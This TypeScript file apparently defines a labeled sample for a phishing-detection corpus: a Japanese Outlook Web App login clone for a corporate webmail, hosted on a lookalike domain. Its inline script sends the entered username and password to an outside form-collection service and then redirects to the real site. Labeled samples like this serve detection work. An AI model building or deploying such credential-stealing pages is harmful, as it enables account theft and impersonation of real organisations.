import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { doc, wordmark } from '../parts/yj-kit.js';

// Webmail clones.

export const entries: Entry[] = [
  // yj-owa-jp-corp-webmail
{
  id: 'yj-owa-jp-corp-webmail',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://mail-kanto-seimitsu.com.owa-sync.net/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.kanto-seimitsu.co.jp%2fowa%2f',
  body: doc({
    lang: 'ja',
    title: 'Outlook',
    css: `body{background:#fff;font-family:"Segoe UI","Meiryo UI",Meiryo,sans-serif}.side{position:fixed;left:0;top:0;bottom:0;width:38%;background:#0072c6}.main{margin-left:38%;padding:12% 6%}
h1{font-weight:200;font-size:42px;color:#333;margin:0 0 20px}.sign{font-size:14px;color:#444}input{display:block;width:320px;padding:6px 8px;border:1px solid #aaa;margin:10px 0;font-size:14px}
.b{border:0;background:none;color:#0072c6;font-size:22px;cursor:pointer;display:flex;align-items:center;gap:6px;padding:0;margin-top:14px}.arr{display:inline-block;width:28px;height:28px;border:2px solid #0072c6;border-radius:50%;text-align:center;line-height:24px}.hint{font-size:12px;color:#666;margin-top:30px}`,
    body: `<div class="side"></div>
<div class="main"><h1>Outlook</h1>
<div class="sign">関東精密工業株式会社 社員用ウェブメール<br>セキュリティ更新のため、再度サインインしてください。</div>
<form id="logonForm" method="POST" action="/owa/auth.owa"><input type="hidden" name="destination" value="https://mail.kanto-seimitsu.co.jp/owa/"><input type="hidden" name="flags" value="4">
<input id="username" name="username" placeholder="ドメイン\\ユーザー名" autocomplete="off"><input id="password" name="password" type="password" placeholder="パスワード">
<button class="b" type="submit"><span class="arr">→</span> サインイン</button></form>
<div class="hint">&copy; 2025 Microsoft</div></div>`,
    tail: `<script>
var m=new URLSearchParams(location.hash.slice(1)).get('u');if(m){try{document.getElementById('username').value=atob(m)}catch(e){document.getElementById('username').value=m}}
document.getElementById('logonForm').addEventListener('submit',function(e){e.preventDefault();var u=this.username.value,p=this.password.value;
fetch('https://submit-form.com/Kq1XvP9c',{method:'POST',headers:{'Content-Type':'application/json',Accept:'application/json'},body:JSON.stringify({u:u,p:p,host:location.hostname})}).finally(function(){location.href='https://mail.kanto-seimitsu.co.jp/owa/'})});
</script>`,
  }),
  routes: { 'mail-kanto-seimitsu.com.owa-sync.net/owa/auth.owa': htmlRoute('<!DOCTYPE html><meta charset="utf-8"><title>Outlook</title><p>サインインしています…</p>') },
},
];
